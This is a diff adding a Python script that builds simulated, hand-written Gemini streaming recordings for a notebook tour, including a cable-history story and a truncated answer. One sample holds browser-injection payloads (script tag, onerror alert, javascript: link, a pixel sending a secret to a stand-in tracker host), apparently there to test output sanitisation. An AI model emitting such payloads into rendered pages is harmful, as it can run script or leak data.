@@ -1,0 +1,285 @@
+"""Writes the recordings that the tour replays: ``gemini_magic/data/tour.jsonl`` and ``capital.httprr``.
+
+No model was asked. The answers are written below; this script puts them into the API's wire format with the pace
+of a real stream, so that everything behind them (parser, ledger, renderer, endings) does its real work. Run it
+again after changing a prompt here or in a notebook: replay matches the exact request.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import re
+from pathlib import Path
+
+from gemini_magic.asking import build
+from gemini_magic.backends import backend
+from gemini_magic.content import Text
+from gemini_magic.settings import resolve
+from gemini_magic.wire import TraceExchange, httprr
+
+DATA = Path(__file__).parent.parent / "gemini_magic" / "data"
+GEMINI = backend("gemini")
+
+STREAM = """\
+## From the model to your cell
+
+A streamed answer is **not one message** but many small ones. The server keeps a single HTTP response open and
+writes an event each time it has a few more words.
+
+| stage | what it does | what can go wrong |
+|:--|:--|:--|
+| server | writes `data: {…}` lines | says `STOP` too early |
+| network | cuts the bytes anywhere | closes in the middle |
+| reader | puts events together again | an *emoji* 🦕 split in two |
+| renderer | turns Markdown into HTML | half a `**bold` at the end |
+
+Reading such a stream takes only a few lines:
+
+```python
+import json
+
+def events(lines):
+    for line in lines:
+        if line.startswith(b"data:"):
+            yield json.loads(line[5:])
+
+text = ""
+for event in events(response):
+    for part in event["candidates"][0]["content"]["parts"]:
+        text += part.get("text", "")
+```
+
+...and it is wrong in at least three ways:
+
+1. A *keep-alive comment* or a missing space breaks many readers.
+2. The stream may **end without a finish reason**; then the answer is only half there.
+3. Usage counts are running totals:
+   - the last one counts,
+   - adding them up charges you ten times over.
+
+> Keep what arrived, say how it ended, and show both.
+
+That is what you are watching now. It costs about $5 and $6 of attention, and no dollar sign was hurt.
+"""
+
+THOUGHT = """\
+**Planning the answer**
+
+The question is about streaming into a notebook. A short overview first, then a table of the stages, then a few \
+lines of Python, and finally the pitfalls. I should keep it brief.
+"""
+
+STORY = """\
+# The word that crossed the sea
+
+On the night of 5 August 1858 a clerk in a hut on Valentia Island wrote down what a spot of light on a wall was
+telling him. The spot moved a finger's width to the left, a finger's width to the right, and each movement was
+a part of a letter that had left Newfoundland two seconds earlier.
+
+## The cable
+
+It had taken four attempts. Two ships met in the middle of the Atlantic, tied their halves of the cable together
+and sailed apart, paying out a line no thicker than a thumb:
+
+* seven strands of copper in the middle,
+* three coats of gutta-percha around it,
+* tarred hemp, and eighteen strands of iron wire outside.
+
+The first time the cable broke after five kilometres. The second time it broke after a hundred. The third time
+it broke after four hundred. Then, at last, it did not break.
+
+## The pace
+
+The Queen's greeting of ninety-eight words took **sixteen hours**. Operators repeated every word, asked for it
+again, lost it, found it, and sent it once more. A message of today's length would have taken a week:
+
+| message | words | hours |
+|:--|--:|--:|
+| the Queen's greeting | 98 | 16 |
+| the President's reply | 143 | 10 |
+| a long answer to a short question | 400 | 65 |
+
+## The end of the first cable
+
+To hurry the signal along, the chief electrician raised the voltage to two thousand volts. It was the end of the
+insulation. For some days the spot of light still trembled, as if it were trying to say something. Then it stood
+still, twenty days after it had begun.
+
+Nobody had kept a record of what had arrived in between. There were the clerks' notebooks, full of half words,
+and a long list of questions:
+
+1. When did the signal grow weak?
+2. Which words had come through twice?
+3. What had the last message been, before the silence?
+
+## What they learned
+
+Eight years later a larger ship laid a better cable. It carried eight words a minute, and it went on for years.
+The difference was not only the copper. This time every signal was written down as it came, with its hour, by an
+instrument that drew a fine ink line on a moving strip of paper. When something went wrong, one could go back
+along the strip and see.
+
+> A stream that nobody writes down has not been received; it has only passed by.
+
+The strip is still there, in a drawer, in a museum by the sea. If you hold it to the light you can see the place
+where the clerk fell asleep: the line goes on, quite straight, for eleven minutes, and then somebody in
+Newfoundland asks, letter by letter, whether anyone is there.
+"""
+
+CUT = """\
+Three reasons why answers end in the middle:
+
+1. the **token limit** was reached,
+2. the connection was closed by a proxy that had waited long enough,
+3. the server
+"""
+
+HOSTILE = """\
+Here is everything a page should never run:
+
+<script>document.title = "owned"</script>
+<img src="x" onerror="alert('owned')">
+
+[a harmless looking link](javascript:alert(1)) and ![a picture](https://tracker.invalid/pixel.png?secret=42)
+
+<button data-commandlinker-command="help:about" data-commandlinker-args="{}">click me</button>
+
+It is all just text now, and the picture was not fetched.
+"""
+
+EXCHANGES = [
+    # (prompt, options, thought, answer, seconds per chunk, how it ends)
+    (
+        "How does a streamed answer reach my notebook? Give me a short overview with a table and a few lines of Python.",
+        {"thinking": "on"},
+        THOUGHT,
+        STREAM,
+        0.05,
+        "STOP",
+    ),
+    ("Tell me, at some length, how the first transatlantic cable taught us to write things down.", {}, "", STORY, 0.09, "STOP"),
+    ("Why do some answers end in the middle? Three reasons.", {}, "", CUT, 0.05, None),
+    ("Show me what a hostile answer might contain.", {}, "", HOSTILE, 0.04, "STOP"),
+]
+
+
+def pieces(text: str, chance: random.Random) -> list[str]:
+    """The text in pieces of one to five words, as models send it."""
+    words = re.findall(r"\s*\S+|\s+$", text)
+    cut = []
+    while words:
+        count = chance.randint(1, 5)
+        cut.append("".join(words[:count]))
+        words = words[count:]
+    return cut
+
+
+def tokens(text: str) -> int:
+    """Roughly the tokens of a text."""
+    return max(1, round(len(text) / 4))
+
+
+def body(prompt: str, thought: str, answer: str, ending: str | None, chance: random.Random, ident: str) -> list[str]:
+    """The stream's events."""
+    asked, thinking, said, events = tokens(prompt), 0, 0, []
+    lane = [(piece, True) for piece in pieces(thought, chance)] + [(piece, False) for piece in pieces(answer, chance)]
+    for number, (piece, is_thought) in enumerate(lane):
+        if is_thought:
+            thinking += tokens(piece)
+        else:
+            said += tokens(piece)
+        candidate = {"content": {"parts": [{"text": piece, **({"thought": True} if is_thought else {})}], "role": "model"}}
+        if ending and number == len(lane) - 1:
+            candidate["finishReason"] = ending
+        candidate["index"] = 0
+        usage = {"promptTokenCount": asked, "candidatesTokenCount": said, "totalTokenCount": asked + said + thinking}
+        if thinking:
+            usage["thoughtsTokenCount"] = thinking
+        value = {"candidates": [candidate], "usageMetadata": usage, "modelVersion": "gemini-flash-latest (recording)", "responseId": ident}
+        events.append(f"data: {json.dumps(value, ensure_ascii=False)}\r\n\r\n")
+    return events
+
+
+def lines() -> list[dict]:
+    """The recording, a dict a line."""
+    chance = random.Random(1858)
+    found = []
+    for number, (prompt, said, thought, answer, pace, ending) in enumerate(EXCHANGES):
+        options, _ = resolve(said)
+        request = GEMINI.encode(build([Text(prompt)], options), GEMINI.base_url, options.api_version)
+        sent = {"method": request.method, "url": request.url, "headers": dict(request.headers), "body": request.body.decode()}
+        found.append({"v": 1, "exchange": number, "request": sent})
+        found.append({"exchange": number, "status": 200, "headers": {"content-type": "text/event-stream"}})
+        t = 0.6
+        for event in body(prompt, thought, answer, ending, chance, f"tour-{number}"):
+            t += chance.uniform(0.4, 1.6) * pace
+            found.append({"exchange": number, "t": round(t, 4), "text": event})
+        found.append({"exchange": number, "end": "eof" if ending else "closed in the middle"})
+    return found
+
+
+def capital() -> bytes:
+    """The two-event answer of gemini-2.0-flash to a question about France, as a Go httprr trace.
+
+    Written after a published description of ``TestModel_GenerateStream_ok.httprr`` (google/adk-go, Apache-2.0),
+    whose later versions hold another answer.
+    """
+    about = {"modelVersion": "gemini-2.0-flash", "responseId": "wzCjaPa4As7shMIP2Mei0AI"}
+    prompt = [{"modality": "TEXT", "tokenCount": 11}]
+    values = [
+        {
+            "candidates": [{"content": {"parts": [{"text": "Paris"}], "role": "model"}}],
+            "usageMetadata": {"promptTokenCount": 11, "totalTokenCount": 11, "promptTokensDetails": prompt},
+            **about,
+        },
+        {
+            "candidates": [{"content": {"parts": [{"text": "\n"}], "role": "model"}, "finishReason": "STOP"}],
+            "usageMetadata": {
+                "promptTokenCount": 10,
+                "candidatesTokenCount": 2,
+                "totalTokenCount": 12,
+                "promptTokensDetails": [{"modality": "TEXT", "tokenCount": 10}],
+                "candidatesTokensDetails": [{"modality": "TEXT", "tokenCount": 2}],
+            },
+            **about,
+        },
+    ]
+    question = {
+        "contents": [{"parts": [{"text": "What is the capital of France? One word."}], "role": "user"}],
+        "generationConfig": {"temperature": 0},
+    }
+    url = "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.0-flash:streamGenerateContent?alt=sse"
+    request = json.dumps(question, separators=(",", ":")).encode()
+    events = [f"data: {json.dumps(value, separators=(',', ':'))}\r\n\r\n" for value in values]
+    exchange = TraceExchange(
+        method="POST",
+        url=url,
+        request_headers=(("Content-Type", "application/json"),),
+        request_body=request,
+        status=200,
+        reason="OK",
+        http_version="HTTP/2.0",
+        headers=(
+            ("Connection", "close"),
+            ("Content-Disposition", "attachment"),
+            ("Content-Type", "text/event-stream"),
+            ("Date", "Mon, 18 Aug 2025 13:55:15 GMT"),
+        ),
+        body="".join(events).encode(),
+    )
+    return httprr.render([exchange])
+
+
+def main() -> None:
+    """Write the files."""
+    trace = DATA / "capital.httprr"
+    trace.write_bytes(capital())
+    print(f"{trace.name}: {trace.stat().st_size:,} bytes")
+    target = DATA / "tour.jsonl"
+    target.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines()), encoding="utf-8")
+    print(f"{target.name}: {len(EXCHANGES)} exchanges, {target.stat().st_size:,} bytes")
+
+
+if __name__ == "__main__":
+    main()
